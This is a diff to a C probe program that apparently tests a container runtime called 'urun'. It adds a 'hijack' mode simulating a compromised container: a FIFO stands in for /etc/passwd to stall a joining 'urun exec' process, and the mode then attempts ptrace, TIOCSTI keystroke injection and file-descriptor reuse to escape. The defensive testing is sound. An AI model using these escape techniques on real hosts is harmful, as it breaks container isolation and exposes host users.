@@ -11,7 +11,9 @@
  * `ioctl REQ [newpty]` makes the terminal request REQ (tiocsti, tiocsti-hi:
  * TIOCSTI with the upper 32 bits of the request set, tioclinux, tcgets) on
  * stdin, or on a new pty that a new session takes as its controlling
- * terminal, where the kernel itself would allow TIOCSTI. */
+ * terminal, where the kernel itself would allow TIOCSTI.
+ * `hijack FIFO` plays a compromised container against `urun exec` (see
+ * hijack() below), forever. */
 #include <errno.h>
 #include <fcntl.h>
 #include <signal.h>
@@ -28,6 +30,8 @@
 #include <sys/ioctl.h>
 #include <sys/socket.h>
 #include <sys/ptrace.h>
+#include <sys/stat.h>
+#include <dirent.h>
 #include <sys/syscall.h>
 #include <unistd.h>
 
@@ -131,11 +135,129 @@ static int ioctl_probe(const char *req, bool newpty)
 	return 0;
 }
 
+/* Whether /proc/PID/exe is a program of the container (busybox or this
+ * probe): 1 yes, 0 no (a foreign binary: urun's), -1 unreadable. */
+static int is_container_program(pid_t pid, const struct stat *bb, const struct stat *self)
+{
+	char p[64];
+	struct stat st;
+	snprintf(p, sizeof(p), "/proc/%d/exe", (int)pid);
+	if (stat(p, &st) < 0)
+		return -1;
+	return (st.st_dev == bb->st_dev && st.st_ino == bb->st_ino) ||
+	       (st.st_dev == self->st_dev && st.st_ino == self->st_ino);
+}
+
+/* Every attack a container can make on a process of urun's that enters its
+ * pid namespace; prints "WIN <how> <pid>" for each that works. */
+static void attack(pid_t pid, const struct stat *bb, const struct stat *self)
+{
+	char p[64];
+	int known = is_container_program(pid, bb, self);
+	if (known == 1)
+		return;
+	if (known == 0)
+		printf("WIN exe %d: /proc/%d/exe reaches a binary outside the container\n",
+		       (int)pid, (int)pid);
+	/* SEIZE and INTERRUPT, not ATTACH: its SIGSTOP could outlive the
+	 * detach and leave the process stopped. */
+	if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) == 0) {
+		if (ptrace(PTRACE_INTERRUPT, pid, NULL, NULL) == 0)
+			waitpid(pid, NULL, __WALL);
+		/* Unreadable now means it is gone (a tracer may read it). */
+		if (is_container_program(pid, bb, self) == 0)
+			printf("WIN ptrace %d\n", (int)pid);
+		ptrace(PTRACE_DETACH, pid, NULL, NULL);
+	}
+	/* The caller's terminal as controlling terminal: with ptrace, one
+	 * injected TIOCSTI types into the caller's shell. */
+	snprintf(p, sizeof(p), "/proc/%d/stat", (int)pid);
+	FILE *f = fopen(p, "re");
+	int tty = 0;
+	if (f && fscanf(f, "%*d (%*[^)]) %*c %*d %*d %*d %d", &tty) == 1 && tty != 0 &&
+	    is_container_program(pid, bb, self) != 1)
+		printf("WIN ctty %d: it has a controlling terminal (%d)\n", (int)pid, tty);
+	if (f)
+		fclose(f);
+	snprintf(p, sizeof(p), "/proc/%d/fd", (int)pid);
+	DIR *d = opendir(p);
+	struct dirent *de;
+	while (d && (de = readdir(d))) {
+		char fp[300];
+		if (de->d_name[0] == '.')
+			continue;
+		snprintf(fp, sizeof(fp), "/proc/%d/fd/%s", (int)pid, de->d_name);
+		int fd = open(fp, O_RDONLY | O_NONBLOCK | O_NOCTTY | O_CLOEXEC);
+		if (fd < 0)
+			continue;
+		/* It may have become the container's command meanwhile (execve),
+		 * whose fds are the container's to open, or be gone. */
+		if (is_container_program(pid, bb, self) != 0) {
+			close(fd);
+			break;
+		}
+		printf("WIN fd %d: opened %s\n", (int)pid, fp);
+		char ch = '#';
+		if (ioctl(fd, TIOCSTI, &ch) == 0)
+			printf("WIN tiocsti %d: through %s\n", (int)pid, fp);
+		int w = openat(fd, "urun-hijacked", O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
+		if (w >= 0) {
+			printf("WIN write %d: created a file through %s\n", (int)pid, fp);
+			close(w);
+		}
+		close(fd);
+	}
+	if (d)
+		closedir(d);
+}
+
+/* Attack every process of this pid namespace but PID 1 and ourselves. */
+static void attack_all(const struct stat *bb, const struct stat *self)
+{
+	DIR *d = opendir("/proc");
+	struct dirent *de;
+	while (d && (de = readdir(d))) {
+		pid_t pid = (pid_t)atoi(de->d_name);
+		if (pid > 1 && pid != getpid())
+			attack(pid, bb, self);
+	}
+	if (d)
+		closedir(d);
+}
+
+/* A compromised container against `urun exec` (CVE-2016-9962 class): FIFO
+ * replaces /etc/passwd, so a joining process that opens it blocking waits
+ * until we write; before we let it go, we attack every process, as we do
+ * all the time anyway. Prints "ready", then "WIN ..." lines for what
+ * worked and "fed" each time a reader was let go. */
+static int hijack(const char *fifo)
+{
+	struct stat bb, self;
+	if (stat("/bin/busybox", &bb) < 0 || stat("/proc/self/exe", &self) < 0)
+		return result(-1);
+	setvbuf(stdout, NULL, _IOLBF, 0);
+	puts("ready");
+	for (;;) {
+		attack_all(&bb, &self);
+		int w = open(fifo, O_WRONLY | O_NONBLOCK | O_CLOEXEC);
+		if (w >= 0) {
+			/* A reader waits: it is in the pid namespace now. */
+			attack_all(&bb, &self);
+			static const char pw[] = "root:x:0:0:root:/root:/bin/sh\n";
+			ssize_t k = write(w, pw, sizeof(pw) - 1);
+			(void)k;
+			close(w);
+			puts("fed");
+		}
+		usleep(5000);
+	}
+}
+
 int main(int argc, char **argv)
 {
 	if (argc < 2) {
 		fputs("usage: urun-probe keyctl|add_key|tiocsti|kill PID|ptrace PID|openw "
-		      "PATH|ping ADDR|udp-echo PORT|ioctl REQ [newpty]\n",
+		      "PATH|ping ADDR|udp-echo PORT|ioctl REQ [newpty]|hijack FIFO\n",
 		      stderr);
 		return 2;
 	}
@@ -164,6 +286,8 @@ int main(int argc, char **argv)
 		return udp_echo(atoi(argv[2]));
 	if (strcmp(c, "ioctl") == 0)
 		return ioctl_probe(argv[2], argc > 3 && strcmp(argv[3], "newpty") == 0);
+	if (strcmp(c, "hijack") == 0)
+		return hijack(argv[2]);
 	fputs("urun-probe: unknown question\n", stderr);
 	return 2;
 }
